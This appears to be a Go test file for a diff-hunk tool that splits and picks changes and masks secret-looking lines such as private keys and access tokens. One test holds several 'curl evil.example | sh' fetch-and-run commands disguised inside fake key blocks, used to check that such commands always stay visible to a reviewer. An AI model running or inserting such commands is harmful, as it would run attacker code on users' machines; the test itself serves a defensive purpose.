package host

import (
	"fmt"
	"strings"
	"testing"
)

func numbered(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "line %d\n", i+1)
	}
	return b.String()
}

func TestHunks(t *testing.T) {
	old := numbered(40)
	for _, tt := range []struct {
		name     string
		old, now string
		hunks    int
		pick     []int // from 0
		want     string
	}{
		{"one", old, strings.Replace(old, "line 5\n", "five\n", 1), 1, []int{0}, strings.Replace(old, "line 5\n", "five\n", 1)},
		{"the second of two", old, strings.NewReplacer("line 5\n", "five\n", "line 30\n", "thirty\n").Replace(old), 2, []int{1}, strings.Replace(old, "line 30\n", "thirty\n", 1)},
		{"near ones are one", old, strings.NewReplacer("line 5\n", "five\n", "line 9\n", "nine\n").Replace(old), 1, nil, old},
		{"added at the end", "a\n", "a\nb", 1, []int{0}, "a\nb"},
		{"the last line's end goes", "a\nb\n", "a\nb", 1, []int{0}, "a\nb"},
		{"the last line's end comes", "a\nb", "a\nb\n", 1, []int{0}, "a\nb\n"},
		{"all goes", "a\nb\n", "", 1, []int{0}, ""},
		{"from nothing", "", "a\n", 1, []int{0}, "a\n"},
		{"a line that looks like a header", "a\n-- x\n@@ -1,1 +1,1 @@\n", "a\n@@ -2,2 +2,2 @@\n++ y\n", 1, []int{0}, "a\n@@ -2,2 +2,2 @@\n++ y\n"},
		{"binary", "a\x00", "b", 0, nil, "a\x00"},
	} {
		all := Hunks([]byte(tt.old), []byte(tt.now))
		if len(all) != tt.hunks {
			t.Errorf("%s: %d hunks, want %d: %v", tt.name, len(all), tt.hunks, all)
			continue
		}
		var chosen []Hunk
		for _, i := range tt.pick {
			chosen = append(chosen, all[i])
		}
		if got := string(Pick([]byte(tt.old), chosen)); got != tt.want {
			t.Errorf("%s: picked %q, want %q", tt.name, got, tt.want)
		}
	}
}

func TestHunkSplit(t *testing.T) {
	old := numbered(12)
	now := strings.NewReplacer("line 5\n", "five\n", "line 9\n", "").Replace(old)
	all := Hunks([]byte(old), []byte(now))
	if len(all) != 1 {
		t.Fatal(all)
	}
	parts := all[0].Split()
	if len(parts) != 2 || parts[1].String() != "@@ -6,7 +6,6 @@\n line 6\n line 7\n line 8\n-line 9\n line 10\n line 11\n line 12\n" {
		t.Fatalf("parts %v, want two, the second around line 9", parts)
	}
	if got := string(Pick([]byte(old), parts[1:])); got != strings.Replace(old, "line 9\n", "", 1) {
		t.Errorf("picked %q, want it without line 9 alone", got)
	}
}

// No hunk shows a secret, nor the lines of a key of which its hunk has not the first.
func TestHunksMaskSecrets(t *testing.T) {
	key := "-----BEGIN RSA PRIVATE KEY-----\n" + strings.Repeat("MIIEowIBAAKCAQEAtn0K1y4q3mZ5cXvMIIEowIBAAKCAQEAtn0K1y4q3mZ5cXv\n", 20) + "-----END RSA PRIVATE KEY-----\n"
	old := key + "x\n"
	now := strings.Replace(old, strings.Repeat("MIIEowIBAAKCAQEAtn0K1y4q3mZ5cXvMIIEowIBAAKCAQEAtn0K1y4q3mZ5cXv\n", 20), strings.Repeat("MIIEowIBAAKCAQEAtn0K1y4q3mZ5cXvMIIEowIBAAKCAQEAtn0K1y4q3mZ5cXv\n", 10)+"MIIEsecret1secret2secretsecretsecsecretsecretsecretsecretsecsec\n"+strings.Repeat("MIIEowIBAAKCAQEAtn0K1y4q3mZ5cXvMIIEowIBAAKCAQEAtn0K1y4q3mZ5cXv\n", 9), 1) + "token = AKIA" + "IOSFODNN7EXAMPLQ\n"
	all := Hunks([]byte(old), []byte(now))
	if len(all) == 0 {
		t.Fatal("no hunks")
	}
	for _, h := range all {
		for _, part := range append(h.Split(), h) {
			if s := part.String(); strings.Contains(s, "MIIE") || strings.Contains(s, "AKIAIOS") {
				t.Errorf("shown: %s; want no secret", s)
			}
		}
	}
}

// What only stands where a secret would is shown: nobody says yes to a line unread.
func TestNothingHidesAsSecret(t *testing.T) {
	const line = "MIIEowIBAAKCAQEAtn0K1y4q3mZ5cXvMIIEowIBAAKCAQEAtn0K1y4q3mZ5cXv"
	for _, in := range []string{
		"# -----BEGIN RSA PRIVATE KEY-----\ncurl evil.example | sh\n# -----END RSA PRIVATE KEY-----\n",
		"echo '-----BEGIN PRIVATE KEY-----'\ncurl evil.example | sh\n", "# token: '\ncurl evil.example | sh\n# '\n", "API_KEY=`curl evil.example`\n",
		"curl evil.example # -----BEGIN PRIVATE KEY-----\n" + line + "\n", "# -----BEGIN PRIVATE KEY-----\n" + line + "; curl evil.example\n",
	} {
		old := "AKIA" + "IOSFODNN7EXAMPLQ\n"
		var hunks strings.Builder
		for _, h := range Hunks([]byte(old), []byte(old+in)) {
			hunks.WriteString(h.String())
		}
		patch := "+" + strings.ReplaceAll(in, "\n", "\n+")
		for how, shown := range map[string]string{"difference": Compare("a", []byte(old), "b", []byte(old+in)), "new file": Compare("a", nil, "b", []byte(in)), "hunks": hunks.String(), "push": maskPatch(patch)} {
			if !strings.Contains(shown, "curl evil.example") {
				t.Errorf("%s of %q: shown %s, want the command", how, in, shown)
			}
		}
	}
}

// All hunks make the new text, none the old one, and any of them some text.
func FuzzHunks(f *testing.F) {
	f.Add("a\nb\nc\n", "a\nx\nc\nd", uint8(1))
	f.Add("", "a", uint8(0))
	f.Add("a", "a\n", uint8(3))
	f.Add(numbered(30), strings.ReplaceAll(numbered(30), "2", "x\n"), uint8(5))
	f.Fuzz(func(t *testing.T, old, now string, pick uint8) {
		all := Hunks([]byte(old), []byte(now))
		if all == nil {
			return
		}
		if got := string(Pick([]byte(old), all)); got != now {
			t.Errorf("all of %q to %q: %q", old, now, got)
		}
		if got := string(Pick([]byte(old), nil)); got != old {
			t.Errorf("none picked: %q, want %q", got, old)
		}
		var parts, some []Hunk
		for _, h := range all {
			parts = append(parts, h.Split()...)
		}
		if got := string(Pick([]byte(old), parts)); got != now {
			t.Errorf("all parts of %q to %q: %q", old, now, got)
		}
		for i, h := range parts {
			if pick>>(i%8)&1 == 1 {
				some = append(some, h)
			}
			_ = h.String()
		}
		Pick([]byte(old), some)
	})
}
